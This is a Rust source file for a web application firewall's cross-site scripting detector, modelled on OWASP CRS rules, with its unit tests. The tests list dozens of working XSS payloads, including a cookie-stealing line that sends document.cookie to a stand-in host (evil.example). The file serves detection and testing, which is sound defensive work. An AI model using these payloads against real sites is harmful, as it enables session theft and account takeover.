//! Cross-site scripting with libinjection (rule 100200), like CRS 941100: argument values and
//! names, cookie values and names (without `__utm*`), `User-Agent`, `Referer`, XML text and
//! attribute values and the request path, after `t:utf8toUnicode,t:urlDecodeUni,
//! t:htmlEntityDecode,t:jsDecode,t:cssDecode,t:removeNulls`.
//!
//! libinjection only judges markup, so a bare `javascript:alert(1)` (a payload for `href`
//! and redirect parameters) passes it; rule 100201 covers that case like CRS 941170: a
//! `javascript:` or `vbscript:` scheme (browsers ignore tabs and newlines inside it) at the
//! start of a word, followed later by a call or property access character; `data:text/html`
//! counts as such a scheme.
//!
//! A payload written into a script (`';alert(1)//`, a JSONP `callback=alert(document.domain)`)
//! has no markup either. Rule 100202 covers it like CRS 941390/941180, more narrowly: a call of
//! `alert`, `prompt`, `confirm`, `eval`, `setTimeout`, `setInterval` or `fromCharCode` with an
//! argument, or `document.cookie`, `document.domain`, `document.write` or `window.location`,
//! that starts the value or follows code punctuation (`' " ; ( = + , .` …), not a word: "set an
//! alert (daily)" passes. It also covers a global object indexed by a string, the way payloads
//! hide a sink's name from filters (`window["alert"](1)`, `self['al'+'ert']`, like CRS 941370).

use std::borrow::Cow;

use super::classes::ByteClasses;
use super::memo::{self, Classifier};
use super::targets::Classified;
use super::targets::{injection_targets, push_once};
use super::transform::{
    apply, css_decode, fold_fullwidth, html_entity_decode, js_decode, remove_nulls, url_decode_uni,
};
use super::{Deadline, Detector, Finding, OutOfTime, Severity};
use crate::decode::percent_decode;

use crate::request::Request;

/// Rule id: libinjection classified a value as cross-site scripting.
pub const XSS_LIBINJECTION: u32 = 100200;

/// Rule id: a `javascript:` or `vbscript:` URI carrying code.
pub const XSS_SCRIPT_URI: u32 = 100201;

/// Rule id: a JavaScript sink call or DOM access in a script context.
pub const XSS_SCRIPT_CALL: u32 = 100202;

const MSG: &str = "XSS Attack Detected via libinjection";
const MSG_SCRIPT_URI: &str = "XSS using a javascript: or vbscript: URI";
const MSG_SCRIPT_CALL: &str = "XSS: JavaScript call or DOM access in a script context";

/// JavaScript functions an injected script calls first, lower case.
const SINK_CALLS: [&str; 7] = [
    "alert",
    "prompt",
    "confirm",
    "eval",
    "settimeout",
    "setinterval",
    "fromcharcode",
];
/// DOM properties an injected script reads or writes, lower case.
const SINK_PROPERTIES: [&str; 5] = [
    "document.cookie",
    "document.domain",
    "document.write",
    "document.location",
    "window.location",
];
/// The length of the shortest sink property.
const PROPERTY_MIN: usize = "document.write".len();
/// Bytes that may come right before a sink in injected code (spaces skipped).
const CODE_CONTEXT: &[u8] = b"'\";(=+-*/|&,{[!?:>`.~%^";

/// URI schemes that run script, lower case.
const SCRIPT_SCHEMES: [&[u8]; 3] = [b"javascript:", b"vbscript:", b"data:text/html"];
/// Bytes that show code after a script scheme (as CRS 941170 requires).
const CODE_BYTES: &[u8] = b"=\\([.<`";

/// The libinjection XSS detector, with the script URI and script call checks.
#[derive(Debug)]
pub struct Xss {
    sinks: aho_corasick::AhoCorasick,
}

impl Xss {
    /// Builds the detector.
    pub fn new() -> Xss {
        let sinks = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(SINK_CALLS.iter().chain(&SINK_PROPERTIES))
            .expect("a small literal set");
        Xss { sinks }
    }

    /// A finding when the transformed `value` is XSS by libinjection, a script URI or a
    /// script call.
    fn check(&self, value: &[u8], variable: impl FnOnce() -> String) -> Option<Finding> {
        if !may_hold_xss(value) {
            return None;
        }
        let value = transformed(value);
        let rule = memo::classify(Classifier::XssChecks, &value, |v| {
            let rule = if is_xss(v) {
                XSS_LIBINJECTION
            } else if has_script_uri(v) {
                XSS_SCRIPT_URI
            } else if self.has_script_call(v) || indexes_global_object(v) {
                XSS_SCRIPT_CALL
            } else {
                return None;
            };
            let mut answer = [0u8; 8];
            answer[..4].copy_from_slice(&rule.to_le_bytes());
            Some(answer)
        })?;
        let (rule_id, msg) = match u32::from_le_bytes([rule[0], rule[1], rule[2], rule[3]]) {
            XSS_SCRIPT_URI => (XSS_SCRIPT_URI, MSG_SCRIPT_URI),
            XSS_SCRIPT_CALL => (XSS_SCRIPT_CALL, MSG_SCRIPT_CALL),
            _ => (XSS_LIBINJECTION, MSG),
        };
        Some(Finding::new(
            rule_id,
            msg,
            Severity::Critical,
            variable(),
            &value,
        ))
    }

    /// True when `value` calls a sink with an argument, or names a sink property, where code
    /// would: at its start or after code punctuation.
    fn has_script_call(&self, value: &[u8]) -> bool {
        // A call needs `(` or a backquote; a property a `.` in a value at least as long as
        // the shortest one (`document.write`), which prices and versions are not.
        let may_call = memchr::memchr2(b'(', b'`', value).is_some();
        let may_name_property =
            value.len() >= PROPERTY_MIN && memchr::memchr(b'.', value).is_some();
        if !may_call && !may_name_property {
            return false;
        }
        self.sinks.find_iter(value).any(|m| {
            let before = value[..m.start()].trim_ascii_end();
            let in_code = match before.last() {
                None => true,
                Some(b) => CODE_CONTEXT.contains(b),
            };
            let word_start = value[..m.start()].last().map_or(true, |b| {
                !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$'))
            });
            let after = &value[m.end()..];
            let called = match after {
                [b'(', next, ..] => *next != b')',
                [b'`', ..] => true,
                _ => false,
            };
            let is_call = m.pattern().as_usize() < SINK_CALLS.len();
            in_code && word_start && (called || !is_call)
        })
    }
}

impl Default for Xss {
    fn default() -> Self {
        Xss::new()
    }
}

impl Detector for Xss {
    fn inspect(
        &self,
        req: &Request<'_>,
        inputs: &Classified<'_, '_>,
        deadline: &Deadline,
        out: &mut Vec<Finding>,
    ) -> Result<(), OutOfTime> {
        let from = out.len();
        for target in injection_targets(inputs) {
            if !target.classes.any(ByteClasses::MARKUP) {
                continue;
            }
            deadline.check()?;
            if let Some(f) = self.check(target.value, || target.variable()) {
                push_once(out, from, f);
            }
        }
        deadline.check()?;
        let path = percent_decode(req.path(), false);
        if let Some(f) = self.check(&path, || "REQUEST_FILENAME".into()) {
            out.push(f);
        }
        Ok(())
    }
}

/// False for values that can hold no markup, attribute, script URI or encoding of one: only
/// ASCII letters, digits, space and `_ . , - @ / [ ]` (brackets matter to libinjection only
/// inside a comment or CDATA section, which starts with `<`). The transformations leave such values
/// unchanged and libinjection never flags them; a test checks random mixes of XSS keywords
/// and these bytes.
fn may_hold_xss(value: &[u8]) -> bool {
    value.iter().any(|&b| may_start_xss(b))
}

/// True for the bytes a value needs one of before libinjection can call it XSS (see
/// [`may_hold_xss`]); the rule engine's prefilter uses them for `@detectXSS`.
pub(crate) fn may_start_xss(b: u8) -> bool {
    !(b.is_ascii_alphanumeric() || b" _.,-@/[]".contains(&b))
}

/// True when libinjection calls `value` (used as is, no transformation) XSS; memoized per
/// thread. Shared with the `@detectXSS` operator.
pub(crate) fn is_xss(value: &[u8]) -> bool {
    may_hold_xss(value)
        && memo::classify(Classifier::Xss, value, |v| {
            libinjectionrs::detect_xss(v)
                .is_injection()
                .then_some([0; 8])
        })
        .is_some()
}

/// CRS's transformations for the XSS rules.
fn transformed(value: &[u8]) -> Cow<'_, [u8]> {
    let v = apply(Cow::Borrowed(value), fold_fullwidth);
    let v = apply(v, url_decode_uni);
    let v = apply(v, html_entity_decode);
    let v = apply(v, js_decode);
    let v = apply(v, css_decode);
    apply(v, remove_nulls)
}

/// Global objects a payload indexes by a string to reach a sink, lower case.
const GLOBAL_OBJECTS: [&str; 7] = [
    "window",
    "self",
    "top",
    "parent",
    "frames",
    "globalthis",
    "document",
];

/// True when one of [`GLOBAL_OBJECTS`], as a whole word, is indexed by a string: `[` then a
/// quote or backquote, blanks and `/* … */` comments allowed between (`window["alert"]`,
/// `self /*x*/ [ 'al'+'ert' ]`). "top [list]" and "window [2]" pass.
fn indexes_global_object(value: &[u8]) -> bool {
    memchr::memchr_iter(b'[', value).any(|open| {
        let word = super::trailing_identifier(skip_blanks_and_comments_back(&value[..open]));
        GLOBAL_OBJECTS
            .iter()
            .any(|g| g.as_bytes().eq_ignore_ascii_case(word))
            && matches!(
                skip_blanks_and_comments(&value[open + 1..]).first(),
                Some(b'"' | b'\'' | b'`')
            )
    })
}

/// `s` without its leading blanks and `/* … */` comments.
fn skip_blanks_and_comments(mut s: &[u8]) -> &[u8] {
    loop {
        s = s.trim_ascii_start();
        match s.strip_prefix(b"/*") {
            Some(rest) => match memchr::memmem::find(rest, b"*/") {
                Some(end) => s = &rest[end + 2..],
                None => return rest,
            },
            None => return s,
        }
    }
}

/// `s` without its trailing blanks and `/* … */` comments.
fn skip_blanks_and_comments_back(mut s: &[u8]) -> &[u8] {
    loop {
        s = s.trim_ascii_end();
        match s.strip_suffix(b"*/") {
            Some(rest) => match memchr::memmem::rfind(rest, b"/*") {
                Some(start) => s = &rest[..start],
                None => return rest,
            },
            None => return s,
        }
    }
}

/// True when `value` holds a script URI scheme at a word start followed by code.
fn has_script_uri(value: &[u8]) -> bool {
    if memchr::memchr(b':', value).is_none() {
        return false;
    }
    (0..value.len()).any(|i| {
        let at_word_start = i == 0 || value.get(i - 1).is_some_and(|b| !b.is_ascii_alphanumeric());
        at_word_start
            && SCRIPT_SCHEMES.iter().any(|scheme| {
                scheme_len(&value[i..], scheme)
                    .is_some_and(|n| value[i + n..].iter().any(|b| CODE_BYTES.contains(b)))
            })
    })
}

/// The bytes `scheme` spans at the start of `s`, matched case-insensitively with tabs and
/// newlines ignored between its letters (as browsers do).
fn scheme_len(s: &[u8], scheme: &[u8]) -> Option<usize> {
    let mut used = 0;
    for &want in scheme {
        while matches!(s.get(used), Some(b'\t' | b'\n' | b'\r')) && used > 0 {
            used += 1;
        }
        if !s.get(used)?.eq_ignore_ascii_case(&want) {
            return None;
        }
        used += 1;
    }
    Some(used)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_without_markup_bytes_are_never_xss() {
        let words: [&[u8]; 18] = [
            b"script",
            b"onerror",
            b"javascript",
            b"alert",
            b"img",
            b"svg",
            b"onload",
            b"src",
            b"style",
            b"expression",
            b"vbscript",
            b"data",
            b"href",
            b"iframe",
            b"x",
            b"1",
            b"[if",
            b"]]",
        ];
        let inert = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_ .,-@/[]";
        let mut x: u64 = 0x2545_F491_4F6C_DD1D;
        let mut next = || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for _ in 0..100_000 {
            let mut v = Vec::new();
            for _ in 0..next() % 6 + 1 {
                if next() % 2 == 0 {
                    v.extend_from_slice(words[(next() % words.len() as u64) as usize]);
                } else {
                    for _ in 0..next() % 4 {
                        v.push(inert[(next() % inert.len() as u64) as usize]);
                    }
                }
            }
            assert!(!may_hold_xss(&v));
            assert!(Xss::new().check(&v, String::new).is_none(), "{v:?}");
            assert!(!libinjectionrs::detect_xss(&v).is_injection(), "{v:?}");
        }
    }
    use crate::detect::testing::{benign_headers, benign_values, inspect_get, inspect_query_value};

    /// Classic XSS vectors (libinjection test data, OWASP XSS filter evasion cheat sheet).
    const ATTACKS: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\"><script>alert(document.cookie)</script>",
        "'><img src=x onerror=alert(1)>",
        "<body onload=alert('XSS')>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<a onmouseover=\"alert(document.cookie)\">link</a>",
        "<img src=\"x\" onerror=\"alert(1)\"/>",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "<svg><script>alert(1)</script></svg>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<div style=\"background-image:url(javascript:alert(1))\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<embed src=\"javascript:alert(1)\">",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<math><maction xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<style>@import 'javascript:alert(1)';</style>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "<!DOCTYPE html><script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "＜script＞alert(1)＜/script＞",
        "<scr\0ipt>alert(1)</script>",
    ];

    #[test]
    fn classic_vectors_fire() {
        let missed: Vec<&str> = ATTACKS
            .iter()
            .copied()
            .filter(|a| inspect_query_value(&Xss::new(), a.as_bytes()).is_empty())
            .collect();
        assert!(missed.is_empty(), "missed: {missed:?}");
    }

    #[test]
    fn benign_values_do_not_fire() {
        let fired: Vec<Finding> = benign_values()
            .iter()
            .flat_map(|v| inspect_query_value(&Xss::new(), v.as_bytes()))
            .collect();
        assert!(fired.is_empty(), "false positives: {fired:#?}");
    }

    #[test]
    fn benign_headers_and_paths_do_not_fire() {
        for (name, value) in benign_headers() {
            let found = inspect_get(&Xss::new(), b"/", &[(name.as_bytes(), value.as_bytes())]);
            assert!(found.is_empty(), "false positive on {value:?}: {found:?}");
        }
        for path in [&b"/a%20b/c.html"[..], b"/search/3%3C4", b"/api/v1/users/42"] {
            assert!(inspect_get(&Xss::new(), path, &[]).is_empty());
        }
    }

    #[test]
    fn script_uri_needs_code_after_the_scheme() {
        assert!(has_script_uri(b"javascript:alert(1)"));
        assert!(has_script_uri(b"java\tscript:alert(1)"));
        assert!(has_script_uri(b"x=1;vbscript:msgbox(1)"));
        assert!(has_script_uri(b"javascript:document.cookie"));
        assert!(!has_script_uri(b"javascript: the good parts"));
        assert!(!has_script_uri(b"learnjavascript:alert(1)"));
        assert!(!has_script_uri(b"javascript"));
    }

    /// Payloads written into a script context, which hold no markup.
    #[test]
    fn script_context_calls_fire() {
        for v in [
            "';alert(String.fromCharCode(88,83,83))//",
            "alert(document.domain)//",
            "\";alert(1);//",
            "'-alert(1)-'",
            "';document.location='https://evil.example/?c='+document.cookie;//",
            "expression(alert(1))",
            "top.confirm`1`",
            "1;eval(atob('YWxlcnQoMSk='))",
            "\"+setTimeout('alert(1)')+\"",
            "data:text/html,<b>hi</b>",
            "window[\"alert\"](window[\"document\"][\"cookie\"])",
            "self['al'+'ert'](1)",
            "self /*x*/ [ /*y*/ `alert` ](1)",
            "top[\"ev\"+\"al\"](\"x\")",
        ] {
            let found = inspect_query_value(&Xss::new(), v.as_bytes());
            assert!(!found.is_empty(), "{v}");
        }
        let found = inspect_query_value(&Xss::new(), b"';alert(1)//");
        assert_eq!(found[0].rule_id, XSS_SCRIPT_CALL);
    }

    /// Sink names in everyday text are words, not calls in code.
    #[test]
    fn sink_names_in_text_pass() {
        for v in [
            "Set an alert (daily) for price drops",
            "Please confirm (by email) your order",
            "Course eval (spring 2024)",
            "prompt engineering: how to write a prompt",
            "the alert() function",
            "Don't forget: price alert",
            "How does document.cookie work",
            "Mr. Smith's alert(ness)",
            "data:image/png;base64,iVBORw0KGgo=",
            "My document.docx, version 2",
            "top [list] of 2024",
            "window [2] seat",
            "Selfie ['best'] shots",
            "my_window['x']",
        ] {
            let found = inspect_query_value(&Xss::new(), v.as_bytes());
            assert!(found.is_empty(), "{v}: {found:?}");
        }
    }

    #[test]
    fn inspects_path_cookies_and_reports_each_variable_once() {
        let found = inspect_get(
            &Xss::new(),
            b"/p/%3Csvg%20onload=alert(1)%3E?q=<script>&q=<script>",
            &[(b"Cookie", b"c=<script>; __utma=<script>")],
        );
        let vars: Vec<&str> = found.iter().map(|f| f.variable.as_str()).collect();
        assert_eq!(vars, ["ARGS:q", "REQUEST_COOKIES:c", "REQUEST_FILENAME"]);
    }
}
